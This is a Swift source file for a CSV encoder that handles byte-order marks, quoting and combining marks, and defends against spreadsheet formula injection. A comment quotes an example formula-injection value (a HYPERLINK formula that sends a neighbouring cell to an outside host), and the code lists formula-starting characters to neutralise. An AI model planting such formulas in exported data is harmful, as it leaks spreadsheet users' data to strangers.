/// A table written as CSV that RFC 4180 parsers and spreadsheets both read the same way.
///
/// - UTF-8 with a byte-order mark (the text starts with U+FEFF), so that Excel opens accents and
///   Arabic intact instead of guessing a legacy code page; Python (`utf-8-sig`), pandas, R and
///   Frictionless all drop it.
/// - CRLF after every row, the last one included.
/// - A field is quoted when it holds a comma, a double quote, CR or LF; quotes inside are doubled.
/// - A field a spreadsheet would take for a formula (its first character, after any spaces, is
///   `=`, `+`, `-`, `@`, a tab, CR or LF) gets a leading apostrophe, so LibreOffice and Excel show
///   it as text instead of running it: a finding typed as `=HYPERLINK("http://…?x="&A1)` would
///   otherwise send the cell next to it to a stranger. No column of ours holds negative numbers,
///   so no number is touched.
///
/// Not yaslab/CSV.swift's `CSVWriter`: it decides quoting with grapheme-level `contains` and
/// doubles quotes with `replacingOccurrences`, so a quote or comma followed by a combining mark
/// (`"\u{301}`) goes out unescaped, even with `quoted: true`, and shifts every later column; it
/// also makes one stream call per byte (about 4 s for a 14 MB table). This encoder works on
/// UTF-8 bytes (see `append`) and builds the text in one buffer.
struct CSVTable {
    var header: [String]
    var rows: [[String]]

    func render() -> String {
        var out: [UInt8] = [0xEF, 0xBB, 0xBF]
        out.reserveCapacity(4096)
        Self.append(header, to: &out)
        for row in rows { Self.append(row, to: &out) }
        return String(decoding: out, as: UTF8.self)
    }

    private static let comma = UInt8(ascii: ","), quote = UInt8(ascii: "\""), cr = UInt8(ascii: "\r"), lf = UInt8(ascii: "\n")

    /// Works on UTF-8 bytes: comma, quote, CR and LF are ASCII, and an ASCII byte never occurs
    /// inside a multi-byte sequence, so this is exactly a check of Unicode scalars.
    private static func append(_ row: [String], to out: inout [UInt8]) {
        for (i, field) in row.enumerated() {
            if i > 0 { out.append(comma) }
            let bytes = formulaSafe(field).utf8
            if bytes.contains(where: { $0 == comma || $0 == quote || $0 == cr || $0 == lf }) {
                out.append(quote)
                for byte in bytes {
                    if byte == quote { out.append(quote) }
                    out.append(byte)
                }
                out.append(quote)
            } else {
                out.append(contentsOf: bytes)
            }
        }
        out.append(cr)
        out.append(lf)
    }

    /// The characters that start a formula in a spreadsheet cell (OWASP's list).
    private static let formulaStarts: Set<UInt8> = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"),
                                                    UInt8(ascii: "@"), 0x09, cr, lf]

    static func formulaSafe(_ field: String) -> String {
        guard let first = field.utf8.first(where: { $0 != UInt8(ascii: " ") }), formulaStarts.contains(first) else { return field }
        return "'" + field
    }
}
